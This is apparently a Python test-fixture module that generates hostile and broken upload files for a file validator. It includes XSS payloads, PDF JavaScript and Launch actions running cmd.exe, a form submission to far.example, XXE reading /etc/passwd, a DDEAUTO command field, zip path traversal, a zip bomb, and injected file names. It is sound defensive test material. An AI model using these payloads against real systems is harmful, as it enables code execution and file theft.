"""A corpus of hostile and broken files, made when they are needed: none of them lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0) + b"\x00" * 4
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
RELS = '<Relationships><Relationship Id="r1" Type="http://schemas/officeDocument/{kind}" Target="http://far.example/x" TargetMode="External"/></Relationships>'


def office(main: str = "word/document.xml", body: bytes = b"<w:document/>", **members: bytes) -> bytes:
    """An office archive; `__` in a name stands for a slash, `_dot_` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(main, body)
        for name, data in members.items():
            packed.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return out.getvalue()


def encrypted() -> bytes:
    """An archive whose members claim to be encrypted."""
    data = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + place] |= 1
    return bytes(data)


def twice() -> bytes:
    """Two members of one name: what is checked need not be what is opened."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name in ("word/document.xml", "word/documenT.xml"):
            packed.writestr(name, b"<w/>")
    return out.getvalue().replace(b"documenT", b"document")


def packed_script() -> bytes:
    """A script in a compressed stream of objects."""
    body = zlib.compress(b"1 0 <</S /JavaScript /JS (app.alert(1))>>")
    return (
        PDF
        + b"2 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(body)
        + body
        + b"\nendstream\nendobj\n"
    )


XLSX = "xl/workbook.xml"
# name of the attack -> (file name, bytes, what the refusal says)
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "empty": ("空.pdf", b"", "为空"),
    "page": ("页面.html", b"<script>alert(1)</script>", "不接受“html”"),
    "drawing with script": ("图.svg", b"<svg onload='alert(1)'/>", "不接受“svg”"),
    "program": ("程序.exe", b"MZ\x90\x00", "不接受“exe”"),
    "program after a picture's name": ("照片.jpg.exe", b"MZ\x90\x00", "不接受“exe”"),
    "program that is turned around": ("报告\u202efdp.exe", b"MZ\x90\x00", "不接受“exe”"),
    "program under a nul": ("报告.exe\x00.pdf", b"MZ\x90\x00", "内容与扩展名不符"),
    "no extension": ("材料", PDF, "无扩展名"),
    "archive": ("材料.zip", office(), "不接受“zip”"),
    "old office file": ("材料.doc", b"\xd0\xcf\x11\xe0", "不接受“doc”"),
    "office file with macros": ("材料.docm", office(), "不接受“docm”"),
    "page that calls itself a paper": ("材料.pdf", b"<html><script>", "内容与扩展名不符"),
    "paper that calls itself a picture": ("照片.png", PDF, "内容与扩展名不符"),
    "script in a paper": ("材料.pdf", PDF + b"<</S /JavaScript /JS (x)>>", "脚本"),
    "script in a paper, spelled otherwise": ("材料.pdf", PDF + b"<</S /J#61va#53cript /JS (x)>>", "脚本"),
    "script in a paper, packed": ("材料.pdf", packed_script(), "脚本"),
    "paper that starts a program": ("材料.pdf", PDF + b"<</S /Launch /F (cmd.exe)>>", "启动动作"),
    "paper with a file inside": ("材料.pdf", PDF + b"<</Type /EmbeddedFile>>", "内嵌文件"),
    "paper that sends what is typed": ("材料.pdf", PDF + b"<</S /SubmitForm /F (http://far.example)>>", "脚本"),
    "locked paper": ("材料.pdf", PDF + b"<</Encrypt 5 0 R>>", "去掉密码"),
    "office file that is none": ("材料.docx", office("readme.txt"), "内容与扩展名不符"),
    "sheet that calls itself a text": ("材料.docx", office(XLSX), "内容与扩展名不符"),
    "broken office file": ("材料.docx", b"PK\x03\x04broken", "已损坏"),
    "macro": ("表.xlsx", office(XLSX, xl__vbaProject_dot_bin=b"x"), "宏"),
    "old macro": ("表.xlsx", office(XLSX, xl__macrosheets__sheet1_dot_xml=b"<x/>"), "宏"),
    "program in an office file": ("材料.docx", office(word__run_dot_exe=b"MZ"), "程序"),
    "object in an office file": ("材料.docx", office(word__embeddings__oleObject1_dot_bin=b"x"), "其他文件"),
    "archive in an office file": ("材料.docx", office(word__media__x_dot_zip=office()), "其他文件"),
    "member that climbs out": ("材料.docx", office(**{"../../etc/passwd": b"x"}), "程序、宏或者其他文件"),
    "remote template": ("材料.docx", office(word___rels__settings_dot_xml_dot_rels=RELS.format(kind="attachedTemplate").encode()), "远程模板"),
    "entity": ("材料.docx", office(body=b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><w/>'), "外部实体"),
    "entity in another alphabet": ("材料.docx", office(body='\ufeff<!DOCTYPE x>'.encode("utf-16")), "外部实体"),
    "field that starts a program": ("材料.docx", office(body=b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>'), "执行程序的域"),
    "locked office file": ("材料.docx", encrypted(), "设有密码"),
    "two members of one name": ("材料.docx", twice(), "内容与扩展名不符"),
    "bomb": ("表.xlsx", office(XLSX, b"0" * 30_000_000), "解压后过大"),
    "too many members": ("表.xlsx", office(XLSX, **{f"xl__p{n}_dot_xml": b"" for n in range(2100)}), "内容与扩展名不符"),
    "picture without a size": ("照片.png", PNG[:8], "图片已损坏"),
    "picture as large as a field": ("照片.png", PNG[:16] + struct.pack(">II", 60000, 60000) + PNG[24:], "尺寸过大"),
    "torn photograph": ("照片.jpg", JPG[:6], "图片已损坏"),
}  # fmt: skip

# name of the attack -> (file name, bytes, name under which it is kept)
HARMLESS: dict[str, tuple[str, bytes, str]] = {
    "paper with a page behind it": ("材料.pdf", PDF + b"<html><script>alert(1)</script>", "材料.pdf"),
    "picture with a page behind it": ("照片.png", PNG + b"<script>alert(1)</script>", "照片.png"),
    "photograph with an archive behind it": ("照片.jpg", JPG + office(word__run_dot_exe=b"MZ"), "照片.jpg"),
    "name with a path": ("../../etc/passwd.pdf", PDF, "passwd.pdf"),
    "name with a path of another house": ("c:\\windows\\system32\\x.pdf", PDF, "x.pdf"),
    "name with a page in it": ("<img src=x onerror=alert(1)>.pdf", PDF, "_img src=x onerror=alert(1)_.pdf"),
    "name that breaks a header": ("a\r\nSet-Cookie: x=1.pdf", PDF, "a__Set-Cookie_ x=1.pdf"),
    "name that is turned around": ("合同\u202efdp.pdf", PDF, "合同_fdp.pdf"),
    "name that no font has": ("证据\U0001f4c4.pdf", PDF, "证据_.pdf"),
    "very long name": ("长" * 300 + ".pdf", PDF, "长" * 116 + ".pdf"),
    "formula as a name": ("=1+1|calc.pdf", PDF, "1+1_calc.pdf"),
    "link that somebody clicks": ("材料.docx", office(word___rels__document_dot_xml_dot_rels=RELS.format(kind="relationships/hyperlink").encode()), "材料.docx"),
    "word that only looks like a field": ("材料.docx", office(body="<w:t>DDE是一种旧技术</w:t>".encode()), "材料.docx"),
}  # fmt: skip
